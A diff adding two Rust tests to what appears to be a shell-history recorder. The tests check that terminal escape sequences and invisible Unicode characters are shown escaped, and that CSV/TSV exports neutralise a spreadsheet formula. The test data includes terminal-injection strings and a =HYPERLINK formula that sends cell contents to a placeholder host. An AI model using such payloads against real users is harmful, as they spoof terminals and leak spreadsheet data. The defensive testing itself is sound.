@@ -568,6 +568,89 @@ fn the_table_escapes_control_characters() {
     assert!(table.contains(r"printf '\x1b[31mred\x1b[0m'"), "{table}");
 }
 
+#[test]
+fn every_column_of_every_table_escapes_what_it_shows() {
+    let sb = Sandbox::new();
+    let out = sb.record_with(
+        "echo \u{202e}txt.exe \x1b[2J".as_bytes(),
+        &[
+            "--shell",
+            "bash",
+            "--session",
+            "s",
+            "--seq",
+            "1",
+            "--exit",
+            "0",
+            "--cwd",
+            "/srv/\x1b[31m\u{2066}x",
+        ],
+        &[
+            ("TMUX", Some(OsStr::new("/tmp/s\x1b]0;pwn\x07,4242,3"))),
+            ("TMUX_PANE", Some(OsStr::new("%1\x1b[5m\u{200b}"))),
+        ],
+    );
+    assert!(out.status.success(), "{}", sb.log());
+    assert!(sb.cmd().arg("flush").status().unwrap().success());
+    // User and host come from the system: as a central store or an import
+    // could bring them.
+    let conn = rusqlite::Connection::open(&sb.db).unwrap();
+    conn.execute(
+        "UPDATE commands SET user = 'u\x1b[31m\u{202e}', host = 'h\x1b[1m\u{feff}'",
+        [],
+    )
+    .unwrap();
+    drop(conn);
+    let mut outputs = vec![search(&sb, &[])];
+    for by in [
+        "pane",
+        "session",
+        "window",
+        "client-user",
+        "user",
+        "host",
+        "cwd",
+        "day",
+        "command",
+    ] {
+        outputs.push(report(&sb, &["--by", by]));
+    }
+    for out in outputs {
+        assert!(out.status.success(), "{out:?}");
+        let text = String::from_utf8(out.stdout).unwrap();
+        assert!(
+            !text.contains(['\x1b', '\x07', '\u{202e}', '\u{2066}', '\u{200b}', '\u{feff}']),
+            "{text}"
+        );
+        assert!(text.contains("\\x1b["), "shown escaped: {text}");
+    }
+}
+
+#[test]
+fn csv_and_tsv_exports_never_hand_a_spreadsheet_a_formula() {
+    let sb = Sandbox::new();
+    let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1)";
+    assert!(
+        sb.record_numbered("1", formula).status.success(),
+        "{}",
+        sb.log()
+    );
+    for format in ["csv", "tsv"] {
+        let out = search(&sb, &["--format", format]);
+        let text = String::from_utf8(out.stdout).unwrap();
+        assert!(text.contains("'=HYPERLINK("), "{format}: {text}");
+        assert!(
+            !text
+                .lines()
+                .any(|l| l.starts_with('=') || l.contains(",=") || l.contains("\t=")),
+            "{format}: {text}"
+        );
+    }
+    let out = search(&sb, &["--format", "jsonl"]);
+    let row: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(row["command"], formula, "JSON keeps the exact text");
+}
+
 fn report(sb: &Sandbox, args: &[&str]) -> Output {
     sb.cmd()
         .env("TZ", "UTC")
